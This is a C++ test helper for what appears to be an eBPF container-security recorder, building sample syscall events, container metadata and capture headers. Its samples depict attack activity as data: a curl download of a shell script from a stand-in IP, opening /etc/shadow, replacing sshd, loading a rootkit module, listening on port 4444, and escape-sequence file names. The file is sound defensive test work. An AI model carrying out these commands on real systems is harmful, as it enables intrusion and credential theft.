#include "tests/store/store_test_util.h"

#include <array>
#include <string>
#include <utility>

namespace amber::store::testing {
namespace {

constexpr uint64_t kBootNs = 1'000'000'000'000;  // ~17 minutes after boot
constexpr uint64_t kCloneNewns = 0x00020000, kCloneNewuser = 0x10000000,
                   kCloneNewpid = 0x20000000, kCloneNewnet = 0x40000000, kSigchld = 17;
constexpr uint16_t kAfUnix = 1, kAfInet = 2, kAfInet6 = 10;

const std::string kContainerId =
    "3f4e2a1b9c8d7e6f5a4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f";
const std::string kPodUid = "7c9e6679-7425-40de-944b-e07fc1f90ae7";

std::string ContainerCgroup(const std::string& id) {
  return "/kubepods.slice/kubepods-besteffort.slice/kubepods-besteffort-pod" + kPodUid +
         ".slice/cri-containerd-" + id + ".scope";
}

// A task in the sample pod (or on the host when in_container is false).
TaskContext Task(uint32_t pid, uint32_t tid, const std::string& comm, bool in_container,
                 uint32_t uid = 0) {
  TaskContext c;
  c.pid = pid;
  c.tid = tid;
  c.ppid = in_container ? 4100 : 1;
  c.process_start_ns = kBootNs / 2 + pid * 1000ull;
  c.uid = c.euid = uid;
  c.gid = c.egid = uid;
  c.login_uid = in_container ? 0xffffffffu : 1000;
  c.cap_effective = uid == 0 ? 0x000001ffffffffffull : 0;
  uint64_t ns_base = in_container ? 4026532500ull : 4026531830ull;
  c.mnt_ns = ns_base + 1;
  c.pid_ns = ns_base + 2;
  c.user_ns = 4026531837;  // containers here share the host user namespace, as most do
  c.net_ns = ns_base + 3;
  c.uts_ns = ns_base + 4;
  c.ipc_ns = ns_base + 5;
  c.cgroup_ns = ns_base + 6;
  c.cgroup_id = in_container ? 9876 : 1;
  c.cgroup_path = in_container ? ContainerCgroup(kContainerId) : "/system.slice/sshd.service";
  c.container_id = in_container ? kContainerId : "";
  c.comm = comm;
  return c;
}

// The arguments of a typical `op` event: the family of each op, as capture.capnp lists them.
EventArgs ArgsFor(Op op) {
  auto v = static_cast<uint16_t>(op);
  auto in = [v](Op first, Op last) {
    return v >= static_cast<uint16_t>(first) && v <= static_cast<uint16_t>(last);
  };
  switch (op) {
    case Op::kUnknown: return NoArgs{};
    case Op::kFork: return ForkArgs{4242, 4242, kSigchld, kBootNs + 10};
    case Op::kExec:
      return ExecArgs{"/usr/bin/curl", "", "/root",
                      {"curl", "-fsSL", "http://203.0.113.7/x.sh", "-o", "/tmp/x.sh"}, 5, 0, ""};
    case Op::kExit: return ExitArgs{0, 9};  // killed by SIGKILL
    case Op::kCapset: return CredArgs{3, kIdUnchanged, kIdUnchanged, 0, 0, 0x200000ull};
    case Op::kCredChange:
      return CredArgs{kIdUnchanged, kIdUnchanged, kIdUnchanged, 1000, 1000, ~0ull >> 23};
    case Op::kPrctl: return ControlArgs{15, 0, "kworker/0:1"};  // PR_SET_NAME to hide
    case Op::kPersonality: return ControlArgs{0x0040000, 0, ""};  // ADDR_NO_RANDOMIZE
    case Op::kInitModule: return ControlArgs{0, 81920, "rootkit"};
    case Op::kFinitModule: return ControlArgs{0, 3, "/tmp/diamorphine.ko"};
    case Op::kDeleteModule: return ControlArgs{0x800, 0, "rootkit"};
    case Op::kBpf: return ControlArgs{5, 2, "kprobe_hide"};  // BPF_PROG_LOAD, kprobe
    case Op::kKeyctl: return ControlArgs{2, 0, "user"};
    case Op::kAddKey: return ControlArgs{0, 0, "logon"};
    case Op::kUnshare:
      return NsArgs{kCloneNewuser | kCloneNewns | kCloneNewpid, -1, 0, "", "", "", "", "", 0};
    case Op::kSetns: return NsArgs{kCloneNewnet, 5, 0, "", "", "", "", "", 4026531840};
    case Op::kMount: return NsArgs{0x1000, -1, 0, "/dev/sda1", "/mnt/host", "ext4", "", "", 0};
    case Op::kUmount: return NsArgs{2, -1, 0, "", "/proc", "", "", "", 0};
    case Op::kPivotRoot:
      return NsArgs{0, -1, 0, "/.pivot_root", "/run/containerd/rootfs", "", "", "", 0};
    case Op::kChroot: return NsArgs{0, -1, 0, "", "/host", "", "", "", 0};
    case Op::kFsopen: return NsArgs{0, -1, 0, "cgroup", "", "cgroup", "", "", 0};
    case Op::kFsconfig:  // CVE-2022-0185 shape: FSCONFIG_SET_STRING of an oversized value
      return NsArgs{0, 3, 1, "", "", "", "source", std::string(256, 'A'), 0};
    case Op::kFsmount: return NsArgs{1, 3, 0, "", "", "", "", "", 0};
    case Op::kMoveMount: return NsArgs{4, 4, 0, "", "/sys/fs/cgroup/x", "", "", "", 0};
    default:
      break;
  }
  if (in(Op::kSetuid, Op::kSetgroups)) return CredArgs{0, 0, kIdUnchanged, 1000, 1000, 0};
  if (in(Op::kKexecLoad, Op::kUserfaultfd)) return ControlArgs{v, 1, ""};
  if (in(Op::kOpenTree, Op::kMountSetattr)) return NsArgs{0x80001, -100, 0, "", "/", "", "", "", 0};
  if (op == Op::kPtrace) return TargetArgs{1, 0, 16, 0, 1};  // PTRACE_ATTACH to init
  if (op == Op::kProcessVmWritev) return TargetArgs{812, 0, 4096, 0x7f3a12340000, 12};
  if (op == Op::kProcessVmReadv) return TargetArgs{0, 0, 65536, 0x7ffd00001000, 4242};  // not found
  if (op == Op::kKill) return TargetArgs{static_cast<uint32_t>(-3301), 9, 0, 0, -17};  // a group
  if (in(Op::kTkill, Op::kTgkill)) return TargetArgs{1, 9, 0, 0, 1};
  if (in(Op::kPidfdSendSignal, Op::kPidfdGetfd)) return TargetArgs{1, 9, 0, 0, 0};  // no pid given
  if (op == Op::kOpen) {  // through a symlink: the file reached is kept beside the spelling
    return FileArgs{"/tmp/.x", "", 0x80000, 0, kIdUnchanged, kIdUnchanged, "/etc/shadow"};
  }
  if (op == Op::kRename)
    return FileArgs{"/tmp/.x", "/usr/bin/sshd", 0, 0, kIdUnchanged, kIdUnchanged, ""};
  if (op == Op::kChmod) return FileArgs{"/tmp/x.sh", "", 0, 04755, kIdUnchanged, kIdUnchanged, ""};
  if (op == Op::kChown) return FileArgs{"/tmp/x.sh", "", 0, 0, 0, 0, ""};
  if (op == Op::kSymlink)
    return FileArgs{"/tmp/l", "/etc/passwd", 0, 0, kIdUnchanged, kIdUnchanged, ""};
  if (in(Op::kOpen, Op::kMknod))
    return FileArgs{"/var/tmp/f", "", 0, 0644, kIdUnchanged, kIdUnchanged, ""};
  if (op == Op::kMemfdCreate) return MemoryArgs{0, 0, 0, 1, -1, "pwn"};  // MFD_CLOEXEC
  if (in(Op::kMprotect, Op::kMmap)) return MemoryArgs{0x7f0000000000, 8192, 7, 0x22, -1, ""};
  if (op == Op::kConnect) return NetArgs{kAfInet, 443, 0, 0xcb007107, "", 3, 0};  // 203.0.113.7
  if (op == Op::kAccept) return NetArgs{kAfInet6, 51000, 0x20010db800000000, 1, "", 4, 0};
  if (op == Op::kBind) return NetArgs{kAfInet, 4444, 0, 0, "", 3, 0};  // 0.0.0.0:4444
  if (op == Op::kListen) return NetArgs{kAfInet, 4444, 0, 0, "", 3, 128};
  return SyscallArgs{101, 16, 1, 0, 0};  // ptrace(PTRACE_ATTACH, 1) by number
}

}  // namespace

std::vector<Event> SampleEventsOfEveryFamily() {
  const TaskContext shell = Task(4201, 4201, "sh", true);
  const TaskContext daemon = Task(812, 815, "sshd", false, 0);
  std::vector<Event> events;
  uint64_t t = kBootNs;
  auto add = [&](Op op, EventArgs args, const TaskContext& who, int64_t ret = 0) {
    Event e;
    e.time_ns = t += 1000 + events.size() * 7;
    e.cpu = static_cast<uint16_t>(events.size() % 4);
    e.op = op;
    e.ret = ret;
    e.context = who;
    e.args = std::move(args);
    events.push_back(std::move(e));
  };
  for (uint16_t v = 0; v < kOpCount; ++v) {
    auto op = static_cast<Op>(v);
    add(op, ArgsFor(op), v % 3 == 0 ? daemon : shell, op == Op::kOpen ? 3 : 0);
  }

  // Shapes and failures a reader must tell apart.
  add(Op::kConnect, NetArgs{kAfInet6, 53, 0x2001486048600000, 0x8888, "", 5, 0}, shell);
  add(Op::kConnect, NetArgs{kAfUnix, 0, 0, 0, "/run/containerd/containerd.sock", 6, 0}, shell);
  add(Op::kConnect, NetArgs{kAfUnix, 0, 0, 0, "@/tmp/.X11-unix/X0", 6, 0}, shell, -111);
  add(Op::kExec, ExecArgs{"/memfd:pwn (deleted)", "", "/", {"[kworker/0:0]"}, 1,
                          kExecFlagMemfd | kExecFlagDeleted, ""}, shell);
  add(Op::kExec, ExecArgs{"/tmp/x.sh", "/bin/sh", "/tmp", {"/bin/sh", "/tmp/x.sh", ""}, 4,
                          kExecFlagArgvTruncated, "/usr/bin/dash"}, shell);
  add(Op::kExec, ExecArgs{"/usr/bin/sudo", "", "/home/alice", {}, 0, kExecFlagSetuid, ""}, daemon);
  add(Op::kExit, ExitArgs{139, 11}, shell);  // SIGSEGV, core dumped
  add(Op::kExit, ExitArgs{1, 0}, daemon);
  add(Op::kOpen,
      FileArgs{"/root/.ssh/authorized_keys", "", 0x441, 0600, kIdUnchanged, kIdUnchanged, ""},
      shell, -13);
  add(Op::kSetuid, NoArgs{}, shell);  // an op whose arguments were not kept

  // Hostile bytes: paths are bytes, not UTF-8, and end up on an analyst's terminal.
  add(Op::kOpen,
      FileArgs{"/tmp/\xff\xfe\xc3(invalid utf-8", "", 0, 0, kIdUnchanged, kIdUnchanged, ""},
      shell);
  add(Op::kOpen,
      FileArgs{std::string("/tmp/a\0b/embedded-nul", 21), "", 0, 0, kIdUnchanged, kIdUnchanged, ""},
      shell);
  add(Op::kUnlink,
      FileArgs{"/tmp/\x1b[31mred\x1b[0m\x1b]0;owned\x07", "", 0, 0, kIdUnchanged, kIdUnchanged, ""},
      shell);
  std::string long_path = "/";
  while (long_path.size() < 4096) long_path += "deep/";
  long_path.resize(4096);
  add(Op::kOpen, FileArgs{long_path, "", 0, 0, kIdUnchanged, kIdUnchanged, ""}, shell, -36);
  TaskContext odd = shell;
  odd.comm = "\x1b[2J\xff";
  add(Op::kExec, ExecArgs{"/bin/\x1b[8m", "", std::string("/\0/", 3),
                          {std::string("a\xff", 2), "\x1b[31m", "--x=\"y\""}, 3, 0, ""}, odd);
  return events;
}

ProcessRecord SampleProcess(uint32_t pid) {
  ProcessRecord p;
  bool in_container = pid % 2 == 0;
  p.context =
      Task(pid, pid, pid % 3 == 0 ? "nginx" : "python3", in_container, pid % 5 == 0 ? 0 : 33);
  p.exe = pid % 3 == 0 ? "/usr/sbin/nginx" : "/usr/bin/python3.11";
  p.cwd = in_container ? "/app" : "/";
  p.argv = pid % 3 == 0 ? std::vector<std::string>{"nginx: worker process"}
                        : std::vector<std::string>{"python3", "-m", "http.server", "8080"};
  p.observed_ns = kBootNs - 5000 + pid;
  return p;
}

ContainerRecord SampleContainer() {
  ContainerRecord c;
  c.id = kContainerId;
  c.name = "web";
  c.image = "registry.example.com/shop/web:1.4.2";
  c.image_digest = "sha256:4b7e1f0c0a1d2e3f405162738495a6b7c8d9e0f1a2b3c4d5e6f708192a3b4c5d";
  c.runtime = "containerd";
  c.cgroup_path = ContainerCgroup(kContainerId);
  c.labels = {{"io.kubernetes.container.name", "web"},
              {"io.kubernetes.pod.name", "web-7d9c6b5f4-x2k8p"},
              {"io.kubernetes.pod.namespace", "shop"},
              {"io.kubernetes.pod.uid", kPodUid},
              {"app", "web"}};
  c.annotations = {{"io.kubernetes.cri.container-type", "container"},
                   {"io.kubernetes.cri.sandbox-id", std::string(64, 'a')},
                   {"io.kubernetes.pod.name", "web-7d9c6b5f4-x2k8p"},
                   {"io.kubernetes.pod.namespace", "shop"},
                   {"io.kubernetes.pod.uid", kPodUid},
                   {"empty.value", ""}};
  c.pod_name = "web-7d9c6b5f4-x2k8p";
  c.pod_namespace = "shop";
  c.pod_uid = kPodUid;
  c.privileged = true;
  c.mounts = {{"proc", "/proc", "proc", {"nosuid", "noexec", "nodev"}},
              {"/var/lib/kubelet/pods/" + kPodUid + "/volumes/kubernetes.io~secret/token",
               "/var/run/secrets/kubernetes.io/serviceaccount", "bind", {"rbind", "ro"}},
              {"/", "/host", "bind", {"rbind", "rprivate"}},
              {"", "/empty", "", {}}};
  c.init_pid = 4100;
  c.observed_ns = kBootNs - 1000;
  c.bundle = "/run/containerd/io.containerd.runtime.v2.task/k8s.io/" + kContainerId;
  c.status = "running";
  c.capabilities = {"CAP_CHOWN", "CAP_SYS_ADMIN", "CAP_SYS_PTRACE", "CAP_NET_RAW"};
  c.namespaces = {{"pid", ""}, {"network", "/var/run/netns/cni-1234"}, {"mount", ""}};
  return c;
}

LossRecord SampleLoss() {
  return LossRecord{LossSource::kRingBuffer, 3, 1742, kBootNs + 5'000'000, kBootNs + 9'000'000,
                    "ring buffer full (256 KiB per CPU)"};
}

RecorderStats SampleStats() {
  return RecorderStats{kBootNs + 60'000'000'000,
                       {{"events", 1'234'567},
                        {"lost_ring_buffer", 1742},
                        {"bytes_written", 98'765'432},
                        {"chunks", 120},
                        {"", 0}}};
}

CaptureHeader SampleHeader() {
  CaptureHeader h;
  h.capture_id =
      std::string("\x01\x23\x45\x67\x89\xab\xcd\xef\x00\x11\x22\x33\x44\x55\x66\x77", 16);
  h.recording_id =
      std::string("\xfe\xdc\xba\x98\x76\x54\x32\x10\x00\x00\xff\xff\x00\x01\x02\x03", 16);
  h.file_index = 2;
  h.previous_digest = std::string(32, '\x5a');
  h.host = HostInfo{"node-7.prod.example.com", "0123456789abcdef0123456789abcdef",
                    "9f1c5e2a-3b4d-4e6f-8a7b-1c2d3e4f5a6b", "6.1.0-18-amd64",
                    "#1 SMP PREEMPT_DYNAMIC Debian 6.1.76-1 (2024-02-01)", "x86_64", 8};
  h.recorder_name = "amber-record";
  h.recorder_version = "0.1.0";
  h.options = {
      {"--container-only", "true"}, {"--chunk-bytes", "1048576"}, {"--out", "/var/lib/amber"}};
  h.clock_boot_ns = kBootNs - 60'000'000'000;
  h.clock_realtime_ns = 1'717'000'000'000'000'000;
  h.probes = {
      {"tracepoint/sched/sched_process_exec", ProbeStatus::kAttached, "", {Op::kExec}},
      {"tracepoint/syscalls/sys_enter_setuid",
       ProbeStatus::kAttached,
       "",
       {Op::kSetuid, Op::kSetreuid, Op::kSetresuid}},
      {"tp_btf/fsconfig", ProbeStatus::kUnsupported, "no BTF for fsconfig", {Op::kFsconfig}},
      {"kprobe/security_bpf", ProbeStatus::kFailed, "libbpf: -EPERM", {Op::kBpf}},
      {"tracepoint/syscalls/sys_enter_mmap", ProbeStatus::kDisabled, "", {}}};
  h.btf_id = std::string(32, '\x07');
  h.started_ns = kBootNs - 59'000'000'000;
  return h;
}

Footer SampleFooter() {
  Footer f;
  uint64_t offset = 16;
  for (uint8_t kind : {1, 3, 4, 2, 2, 5, 6}) {
    f.index.push_back(IndexEntry{offset, kind, kind == 2 ? 13000u : 1u, kBootNs + offset,
                                 kBootNs + offset * 2});
    offset += 80 + 4096 * kind;
  }
  f.stopped_ns = kBootNs + 120'000'000'000;
  f.stop_reason = "signal SIGINT";
  f.events = 26000;
  f.lost = 1742;
  return f;
}

std::vector<Event> SyntheticMix(size_t n, uint64_t seed) {
  static const std::array<const char*, 24> kPaths = {
      "/lib/x86_64-linux-gnu/libc.so.6", "/lib/x86_64-linux-gnu/libpthread.so.0",
      "/lib/x86_64-linux-gnu/libssl.so.3", "/lib/x86_64-linux-gnu/libcrypto.so.3",
      "/lib/x86_64-linux-gnu/libz.so.1", "/usr/lib/locale/locale-archive",
      "/etc/ld.so.cache", "/etc/nsswitch.conf", "/etc/resolv.conf", "/etc/hosts",
      "/etc/passwd", "/etc/group", "/etc/localtime", "/etc/ssl/certs/ca-certificates.crt",
      "/proc/self/status", "/proc/meminfo", "/sys/fs/cgroup/cpu.max",
      "/app/config/settings.yaml", "/app/static/index.html", "/var/log/nginx/access.log",
      "/usr/lib/python3.11/json/__init__.py", "/usr/lib/python3.11/encodings/utf_8.py",
      "/tmp/.cache/pip/http/a/b/c", "/dev/null"};
  static const std::array<const char*, 10> kComms = {"nginx",    "python3",      "java", "node",
                                                     "postgres", "redis-server", "sh",   "bash",
                                                     "curl",     "kubelet"};
  static const std::array<std::vector<std::string>, 5> kArgvs = {
      std::vector<std::string>{"/bin/sh", "-c", "curl -s http://localhost:8080/healthz"},
      std::vector<std::string>{"curl", "-s", "http://localhost:8080/healthz"},
      std::vector<std::string>{"python3", "/app/manage.py", "migrate", "--noinput"},
      std::vector<std::string>{"ls", "-la", "/app"},
      std::vector<std::string>{"/usr/bin/git", "fetch", "--prune", "origin"}};

  uint64_t state = seed;
  auto next = [&state]() {  // splitmix64: the same sequence on every platform
    uint64_t z = (state += 0x9e3779b97f4a7c15ull);
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
    return z ^ (z >> 31);
  };

  std::vector<TaskContext> tasks;
  for (uint32_t i = 0; i < 20; ++i) {
    bool in_container = i % 4 != 0;
    TaskContext c = Task(2000 + i * 37, 2000 + i * 37, kComms[i % kComms.size()], in_container,
                         i % 3 == 0 ? 0 : 1000 + i);
    if (in_container && i % 2 == 1) {  // a second pod
      c.container_id = std::string(64, static_cast<char>('0' + i % 10));
      c.cgroup_path = ContainerCgroup(c.container_id);
    }
    tasks.push_back(std::move(c));
  }

  std::vector<Event> events;
  events.reserve(n);
  uint64_t t = kBootNs + next() % 1'000'000;
  for (size_t i = 0; i < n; ++i) {
    uint64_t r = next();
    Event e;
    t += 1000 + (r >> 40) % 49'000;
    e.time_ns = t;
    e.cpu = static_cast<uint16_t>((r >> 8) % 8);
    e.context = tasks[(r >> 16) % tasks.size()];
    e.context.tid = e.context.pid + static_cast<uint32_t>((r >> 24) % 3);  // a few threads each
    uint64_t pick = r % 100;
    if (pick < 70) {
      e.op = Op::kOpen;
      e.ret = pick < 65 ? 3 + static_cast<int64_t>((r >> 32) % 20) : -2;
      e.args = FileArgs{kPaths[(r >> 32) % kPaths.size()], "", 0x80000, 0, kIdUnchanged,
                        kIdUnchanged, ""};
    } else if (pick < 78) {
      const auto& argv = kArgvs[(r >> 32) % kArgvs.size()];
      e.op = Op::kExec;
      e.args = ExecArgs{"/usr/bin/" + argv[0].substr(argv[0].rfind('/') + 1), "", "/app", argv,
                        static_cast<uint32_t>(argv.size()), 0, ""};
    } else if (pick < 85) {
      e.op = Op::kConnect;
      e.ret = pick < 84 ? 0 : -111;
      e.args = NetArgs{kAfInet, static_cast<uint16_t>(pick % 2 ? 5432 : 443), 0,
                       0x0a000000u + (r >> 32) % 16, "", 7, 0};
    } else if (pick < 90) {
      e.op = Op::kFork;
      auto child = static_cast<uint32_t>(30000 + i % 20000);
      e.ret = child;
      e.args = ForkArgs{child, child, kSigchld, t};
    } else if (pick < 94) {
      e.op = Op::kExit;
      e.args = ExitArgs{static_cast<int32_t>((r >> 32) % 2), 0};
    } else if (pick < 97) {
      e.op = Op::kSetuid;
      e.args = CredArgs{1000, kIdUnchanged, kIdUnchanged, e.context.uid, e.context.euid, 0};
    } else {
      e.op = Op::kMmap;
      e.args = MemoryArgs{0x7f0000000000 + ((r >> 20) << 12), 4096u << (r % 4), 5, 0x22, -1, ""};
    }
    events.push_back(std::move(e));
  }
  return events;
}

}  // namespace amber::store::testing
